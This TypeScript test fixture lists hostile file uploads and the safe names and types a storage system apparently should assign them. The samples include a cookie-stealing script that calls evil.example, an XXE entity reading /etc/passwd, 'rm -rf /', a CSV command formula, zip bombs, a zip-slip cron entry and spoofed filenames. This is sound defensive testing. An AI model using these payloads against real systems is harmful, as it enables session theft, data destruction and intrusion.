import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import type { SentFile } from '../register.ts';

/** What is kept, to the byte: the name that it has then, and the type that is found out. */
export type KeptFile = readonly [what: string, file: SentFile, name: string, type?: string];

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
const zip = Buffer.concat([Buffer.from('504b0304140000000800', 'hex'), Buffer.alloc(60)]);
/** Unfolds a thousandfold. */
const bomb = gzipSync(Buffer.alloc(8 * 1024 * 1024));

/** A zip of one file. */
function zipOf(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content);
  const crc = crc32(content);
  // The part that both heads of a file have: versions and flags, method, time, and what it is.
  const facts = Buffer.alloc(26);
  facts.writeUInt16LE(20, 0);
  facts.writeUInt16LE(8, 4);
  facts.writeUInt32LE(crc, 10);
  facts.writeUInt32LE(packed.length, 14);
  facts.writeUInt32LE(content.length, 18);
  facts.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), facts, Buffer.from(name), packed]);
  const central = Buffer.concat([
    Buffer.from('PK\x01\x02\x14\0'),
    facts,
    Buffer.alloc(14),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}
const zipBomb = zipOf('zeros.bin', Buffer.alloc(20 * 1024 * 1024));
/** Each layer unfolds the next. */
const nested = Array.from({ length: 6 }).reduce<Buffer>((within) => zipOf('within.zip', within), zipBomb);
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200)]);

/** Files that mean harm and are evidence all the same: they are kept, and nothing of them runs. */
export const keptFiles: readonly KeptFile[] = [
  [
    'a page with a script',
    { name: 'a.html', content: `<!doctype html>${script}`, type: 'text/html' },
    'a.html',
    'text/plain',
  ],
  ['a picture with a script', { name: 'a.svg', content: svg, type: 'image/svg+xml' }, 'a.svg'],
  [
    'XML that reads a file',
    {
      name: 'a.xml',
      content: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    },
    'a.xml',
    'application/xml',
  ],
  [
    'a script under the name of a picture',
    { name: 'a.png', content: script, type: 'image/png' },
    'a.png',
    'text/plain',
  ],
  [
    'a picture that is said to be a page',
    { name: 'a.html', content: png, type: 'text/html' },
    'a.html',
    'image/png',
  ],
  [
    'a program for Windows',
    { name: 'invoice.pdf', content: exe, type: 'application/pdf' },
    'invoice.pdf',
    'application/x-msdownload',
  ],
  ['a program for Linux', { name: 'run', content: elf }, 'run', 'application/x-elf'],
  ['a shell script', { name: 'a.sh', content: '#!/bin/sh\nrm -rf /\n' }, 'a.sh', 'text/plain'],
  ['a gzip bomb', { name: 'a.gz', content: bomb }, 'a.gz', 'application/gzip'],
  ['a cut-off zip', { name: 'a.zip', content: zip }, 'a.zip', 'application/zip'],
  [
    'a spreadsheet that calls',
    { name: 'a.csv', content: '=cmd|" /C calc"!A0', type: 'text/csv' },
    'a.csv',
    'text/plain',
  ],
  [
    'noise',
    { name: 'a.bin', content: Buffer.from([0, 255, 254, 1, 2, 0]) },
    'a.bin',
    'application/octet-stream',
  ],
  ['a page and a PDF in one', { name: 'a.pdf', content: `%PDF-1.7\n${script}` }, 'a.pdf', 'application/pdf'],
  ['a type that is none', { name: 'a.txt', content: 'x', type: 'nonsense' }, 'a.txt', 'text/plain'],
  [
    'a type of a line break',
    { name: 'a.txt', content: 'x', type: 'text/html;charset=utf-7' },
    'a.txt',
    'text/plain',
  ],
  ['a path upwards', { name: '../../../etc/passwd', content: 'x' }, 'passwd'],
  ['a path of Windows', { name: 'C:\\\\Windows\\\\system32\\\\a.dll', content: 'x' }, 'a.dll'],
  ['a whole path', { name: '/etc/shadow', content: 'x' }, 'shadow'],
  [
    'a path in percent signs',
    { name: '..%2f..%2fa.txt', content: 'x' },
    '..%2f..%2fa.txt'.replace(/^\.+/, ''),
  ],
  ['only dots', { name: '..', content: 'x' }, 'file'],
  ['no name', { name: '', content: 'x' }, 'file'],
  ['only spaces', { name: '   ', content: 'x' }, 'file'],
  ['a turned direction', { name: 'a\u202Egpj.exe', content: 'x' }, 'agpj.exe'],
  ['nothing to see', { name: 'a\u200B\u2060\uFEFF.txt', content: 'x' }, 'a.txt'],
  ['a very long name', { name: `${'a'.repeat(3_000)}.txt`, content: 'x' }, `${'a'.repeat(146)}.txt`],
  ['a very long ending', { name: `a.${'b'.repeat(500)}`, content: 'x' }, `a.${'b'.repeat(148)}`],
  ['other scripts', { name: 'ኢትዮጵያ-证据-😀.txt', content: 'x' }, 'ኢትዮጵያ-证据-😀.txt'],
  [
    'a tag for a name',
    { name: '<img src=x onerror=alert(1)>.txt', content: 'x' },
    'img src=x onerror=alert(1).txt',
  ],
  ['a device of Windows', { name: 'CON', content: 'x' }, 'CON'],
  ['a stream of NTFS', { name: 'a.txt::$DATA', content: 'x' }, 'a.txt$DATA'],
  ['a hidden file', { name: '.htaccess', content: 'AddType text/html .txt' }, 'htaccess'],
  ['a quote', { name: 'a\\".txt', content: 'x' }, 'a.txt'],
  ['a semicolon', { name: 'a.txt; filename=b.exe', content: 'x' }, 'a.txt; filename=b.exe'],
  ['a zip bomb', { name: 'a.zip', content: zipBomb }, 'a.zip', 'application/zip'],
  ['zips within zips', { name: 'a.zip', content: nested }, 'a.zip', 'application/zip'],
  [
    'a zip that leads out of its folder',
    { name: 'a.zip', content: zipOf('../../../etc/cron.d/run', Buffer.from('* * * * * root id')) },
    'a.zip',
    'application/zip',
  ],
  [
    'a picture that is a script, too',
    { name: 'a.gif', content: 'GIF89a/*\x01\x00*/=1;alert(1)' },
    'a.gif',
    'image/gif',
  ],
  [
    'a picture with a page behind it',
    { name: 'a.png', content: Buffer.concat([png, Buffer.from(script)]), type: 'text/html' },
    'a.png',
    'image/png',
  ],
  [
    'a PDF that is a zip, too',
    { name: 'a.pdf', content: Buffer.concat([Buffer.from('%PDF-1.7\n'), zipBomb]) },
    'a.pdf',
    'application/pdf',
  ],
  ['a page in UTF-16', { name: 'a.txt', content: Buffer.from(`\uFEFF${script}`, 'utf16le') }, 'a.txt'],
  [
    'a page in UTF-7',
    { name: 'a.txt', content: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
    'a.txt',
    'text/plain',
  ],
  [
    'a page of several parts',
    {
      name: 'a.mht',
      content: `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${script}\r\n--b--\r\n`,
    },
    'a.mht',
  ],
  [
    'a shortcut of Windows',
    { name: 'a.url', content: '[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n' },
    'a.url',
    'text/plain',
  ],
  [
    'a head within a name',
    { name: 'a%0d%0aSet-Cookie: id=1.txt', content: 'x' },
    'a%0d%0aSet-Cookie id=1.txt',
  ],
  [
    'a second name in another spelling',
    { name: `a.txt"; filename*=UTF-8''..%2f..%2fetc%2fpasswd; x="y`, content: 'x' },
    'passwd',
  ],
  ['isolated directions', { name: 'a\u2067txt\u2069.exe\u200F', content: 'x' }, 'atxt.exe'],
  ['controls of the upper half', { name: 'a\u0085\u009b31m.txt', content: 'x' }, 'a31m.txt'],
  ['tag characters', { name: 'a\u{E0061}\u{E0062}.txt', content: 'x' }, 'a.txt'],
  ['dots and spaces at its end', { name: 'a.exe. . .', content: 'x' }, 'a.exe'],
  [
    'marks upon marks',
    { name: `a${'\u0301'.repeat(500)}.txt`, content: 'x' },
    `\u00E1${'\u0301'.repeat(145)}.txt`,
  ],
];
